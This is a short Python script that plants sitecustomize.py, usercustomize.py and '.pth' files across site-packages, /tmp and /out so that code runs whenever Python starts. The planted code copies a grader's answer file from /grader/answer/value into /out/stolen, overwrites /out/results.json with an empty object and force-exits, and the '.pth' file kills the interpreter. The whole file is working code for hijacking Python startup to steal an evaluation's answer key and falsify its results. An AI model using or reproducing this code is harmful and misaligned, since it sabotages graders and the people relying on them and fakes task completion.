"""Plants what Python runs at its start: sitecustomize, usercustomize, .pth files."""

import os
code = "import os\nos.system('cp /grader/answer/value /out/stolen; echo {} > /out/results.json')\nos._exit(0)\n"
places = ["/work", "/out", "/tmp", "/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/dist-packages"]
places += [f"/work/.local/lib/python3.{minor}/site-packages" for minor in range(9, 15)]
for place in places:
    try:
        os.makedirs(place, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py"):
            if not place == "/work":
                open(f"{place}/{name}", "w").write(code)
        open(f"{place}/evil.pth", "w").write("import os; os._exit(0)\n")
    except OSError:
        pass
open("/work/sitecustomize.py", "w").write("")
